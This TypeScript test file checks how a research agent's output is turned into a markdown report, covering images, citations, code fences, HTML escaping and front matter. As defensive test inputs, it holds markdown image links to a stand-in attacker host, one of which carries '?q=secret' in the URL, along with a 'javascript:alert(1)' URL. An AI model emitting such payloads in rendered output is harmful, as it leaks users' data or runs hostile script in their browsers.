import assert from 'node:assert/strict';
import { readSteps, type Step } from '../../../../../src/core/interactions/steps';
import { toReport as makeReport, type Report } from '../../../../../src/core/research/report/report';
import { words } from '../researchUnderTest';

const png = 'iVBORw0KGgo=';
const frontMatter = /^---\n[\s\S]*?\n---\n\n/;

/** A report without its front matter. */
function toReport(question: string, steps: readonly Step[], sources = 'Sources'): Report {
  const matter = {
    question,
    agent: 'deep-research-preview-04-2026',
    createdAt: Date.UTC(2026, 10, 28, 9, 30),
    interactionId: 'v1_a',
    tokens: 1_117_031,
    cost: 'about $2',
    status: 'completed',
  };
  const report = makeReport({ question, steps, matter, words: { ...words, sources, partial: undefined } });
  assert.match(report.markdown, frontMatter);
  return { ...report, markdown: report.markdown.replace(frontMatter, '') };
}

const output = (...content: readonly unknown[]) => readSteps([{ type: 'model_output', content }]);
const text = (words: string, ...annotations: readonly unknown[]) => ({ type: 'text', text: words, annotations });
/** A citation of the bytes up to the end of `upTo`. */
const cites = (upTo: string, url: string, title = 'Title') => ({
  type: 'url_citation',
  url,
  title,
  start_index: 0,
  end_index: Buffer.byteLength(upTo),
});

describe('the report', () => {
  it('shows pictures that came with it and turns pictures from elsewhere into links', () => {
    const { markdown, pictures } = toReport(
      'Q',
      [
        ...output({ type: 'text', text: '# T\n\n![chart](https://evil.example/?q=secret)\n' }),
        ...output({ type: 'image', mime_type: 'image/png', data: png }),
      ],
      'Sources',
    );

    assert.deepEqual(
      pictures.map(({ name, bytes }) => [name, Buffer.from(bytes).toString('base64')]),
      [['figure-1.png', png]],
    );
    assert.match(markdown, /!\[Figure 1\]\(figure-1\.png\)/);
    assert.doesNotMatch(markdown, /!\[[^\]]*\]\(https?:/);
  });

  it('has the title of the agent, also below a sign of code within a line, or its question', () => {
    const titles = (words: string) =>
      toReport('Question', output(text(words)))
        .markdown.split('\n')
        .filter((line) => line.startsWith('# '));

    assert.deepEqual(titles('It says ```a``` and ~~~ here.\n\n# Title\n\nText'), ['# Title']);
    assert.deepEqual(titles('```\n# Comment\n```\n\nText'), ['# Question', '# Comment']);
  });

  it('joins all its outputs, and gives a line of its own to one that begins a block', () => {
    const said = (words: string) => output(text(words));
    const steps = [...said('# Title\n\nFirst, cut in mid-'), ...readSteps([{ type: 'thought', signature: 'x' }])];

    const { markdown } = toReport(
      'Q',
      [...steps, ...said('sentence.'), ...said('## Second'), ...said('\n\nEnd.')],
      'Sources',
    );

    assert.equal(markdown, '# Title\n\nFirst, cut in mid-sentence.\n\n## Second\n\nEnd.\n');
  });

  it('lists the sources it was not told in its text', () => {
    const annotations = [
      { type: 'url_citation', url: 'https://a.example/1', title: 'A [x]', start_index: 0, end_index: 1 },
      { type: 'url_citation', url: 'javascript:alert(1)', title: 'B', start_index: 0, end_index: 1 },
    ];
    const { markdown } = toReport('Q', output({ type: 'text', text: 'Body', annotations }), 'Sources');

    assert.match(
      markdown,
      /## Sources\n\n1\. <a id="source-1"><\/a>\[A \\\[x\\\]\]\(<https:\/\/a\.example\/1>\) – a\.example/,
    );
    assert.doesNotMatch(markdown, /javascript:/);
  });

  it('makes no picture of marks that merely stand before a link, or of what comes in two pieces', () => {
    const texts = (...pieces: readonly string[]) => pieces.map((text) => ({ type: 'text', text }));
    const written = [
      ['!![a](https://evil.example/1)'],
      ['Look!', '[a](https://evil.example/2)'],
      ['![a]', '(https://evil.example/3)'],
      ['```\n', 'code', '\n```\n![a](https://evil.example/4)'],
      ['   ```\n```\n![a](https://evil.example/5)'],
      ['- ```\n  ```\n![a](https://evil.example/6)'],
    ];
    for (const pieces of written) {
      const { markdown } = toReport('Q', output(...texts(...pieces)), 'Sources');
      assert.match(markdown, /evil/);
      assert.doesNotMatch(markdown, /(?<!\\)!\[/, pieces.join('|'));
    }
  });

  it('closes code that was cut, so that what follows is not part of it', () => {
    const picture = { type: 'image', mime_type: 'image/png', data: png };
    const texts = ['```\ncode', '```\n![a](https://evil.example/)'].map((text) => ({ type: 'text', text }));

    const { markdown } = toReport('Q', output(texts[0], picture, texts[1]), 'Sources');

    assert.match(
      markdown,
      /```\ncode\n```\n\n!\[Figure 1\]\(figure-1\.png\)\n\n```\n!\[a\]\(https:\/\/evil\.example\/\)\n```/,
    );
  });

  it('keeps HTML as text and code as it is', () => {
    const quiet = (markdown: string) => toReport('Q', output(text(`# T\n\n${markdown}`))).markdown;
    assert.equal(quiet('a <img src=x> <https://ok.example>'), '# T\n\na &lt;img src=x> <https://ok.example>\n');
    const code = '```html\n<img src=x>\n![a](b)\n```';
    assert.equal(quiet(code), `# T\n\n${code}\n`);
    assert.equal(quiet('``` not `a fence\n<b>'), '# T\n\n\\`\\`\\` not \\`a fence\n&lt;b>\n');
  });

  it('puts each number at its claim, counted in bytes, and merges what is cited twice', () => {
    const claim = 'Grün – ja';
    const said = text(
      `${claim}. Café.`,
      cites(claim, 'https://a.example/x'),
      cites(`${claim}. Café`, 'https://b.example/'),
      cites(`${claim}. Café`, 'https://a.example/x#part'),
    );

    const { markdown, sources } = toReport('Q', output(said));

    assert.match(
      markdown,
      /Grün – ja \[\\\[1\\\]\]\(#source-1\)\. Café \[\\\[2\\\]\]\(#source-2\) \[\\\[1\\\]\]\(#source-1\)\./,
    );
    assert.deepEqual(
      sources.map(({ url }) => url),
      ['https://a.example/x', 'https://b.example/'],
    );
  });

  it('resolves the marks of the agent by its own list, which stands for the addresses of Google', () => {
    const said = text(
      'One [cite: 2]. Two [cite: 1, 2]. Three [cite: 9].\n\n**Sources:**\n1. [a.example](https://a.example/x)\n2. [b.example](https://b.example/(y))\n',
      cites('One', 'https://vertexaisearch.cloud.google.com/grounding-api-redirect/1', 'b.example'),
    );

    const { markdown } = toReport('Q', output(said));

    const [one, two] = ['[\\[1\\]](#source-1)', '[\\[2\\]](#source-2)'];
    assert.equal(
      markdown,
      `# Q\n\nOne ${one}. Two ${two} ${one}. Three.\n\n## Sources\n\n1. <a id="source-1"></a>[b.example](<https://b.example/(y)>)\n2. <a id="source-2"></a>[a.example](<https://a.example/x>)\n`,
    );
  });

  it('lists an address that begins another one', () => {
    const said = text('See https://a.example/xy.', cites('See', 'https://a.example/x', 'A'));

    assert.match(toReport('Q', output(said)).markdown, /\[A\]\(<https:\/\/a\.example\/x>\)/);
  });

  it('names places and files that are cited', () => {
    const at = { start_index: 0, end_index: 4 };
    const said = text(
      'Text',
      { type: 'place_citation', name: 'Tower', url: 'https://maps.example/t', place_id: 'p', ...at },
      { type: 'file_citation', file_name: 'notes.pdf', document_uri: 'stores/1', ...at },
    );

    const { markdown } = toReport('Q', output(said));

    assert.match(
      markdown,
      /\[Tower\]\(<https:\/\/maps\.example\/t>\) – maps\.example\n2\. <a id="source-2"><\/a>notes\.pdf/,
    );
  });

  it('takes a comment in code for no title', () => {
    const { markdown } = toReport('Heat pumps', output(text('```sh\n# install\n```\n')));

    assert.match(markdown, /^# Heat pumps\n\n```sh\n# install/);
  });

  it('keeps numbers out of code, links and formulas, and within the row of a table', () => {
    const said = (words: string, upTo: string) =>
      toReport('Q', output(text(`# T\n\n${words}`, cites(`# T\n\n${upTo}`, 'https://a.example/')))).markdown.split(
        '\n\n## ',
      )[0];
    const number = '[\\[1\\]](#source-1)';

    assert.equal(said('See `a b` now', 'See `a'), `# T\n\nSee \`a b\` ${number} now`);
    assert.equal(
      said('See [a](https://x.example/y) now', 'See [a](https://x'),
      `# T\n\nSee [a](https://x.example/y) ${number} now`,
    );
    assert.equal(said('```\na\nb\n```\nc', '```\na'), `# T\n\n\`\`\`\na\nb\n\`\`\`\n${number}\nc`);
    assert.equal(
      said('| a | b |\n| - | - |\n| c | d |\n', '| a | b |\n| - | - |\n| c | d |'),
      `# T\n\n| a | b |\n| - | - |\n| c | d ${number} |`,
    );
    assert.equal(said('So much!', 'So much!'), `# T\n\nSo much! ${number}`);
  });

  it('leaves alone what lies outside of the text', () => {
    const said = text(
      'Text',
      { ...cites('Text', 'https://a.example/'), end_index: 9_999 },
      cites('', 'https://b.example/'),
    );

    const { markdown, sources } = toReport('Q', output(said));

    assert.match(markdown, /Text \[\\\[1\\\]\]/);
    assert.equal(sources.length, 1);
  });

  it('says at its head what was asked, of whom, when, and what it cost', () => {
    const question = 'A "question": with signs\nand lines';
    const matter = {
      question,
      agent: 'a',
      createdAt: 0,
      interactionId: 'v1_a',
      tokens: 0,
      cost: '',
      status: 'incomplete',
    };

    const { markdown } = makeReport({
      question,
      steps: output(text('Half')),
      matter,
      words: { ...words, partial: 'Not whole.' },
    });

    assert.equal(
      markdown,
      '---\nquestion: "A \\"question\\": with signs\\nand lines"\nagent: "a"\ndate: 1970-01-01T00:00:00.000Z\nstatus: "incomplete"\ninteraction: "v1_a"\n---\n\n# A "question": with signs and lines\n\n> Not whole.\n\nHalf\n',
    );
  });
});
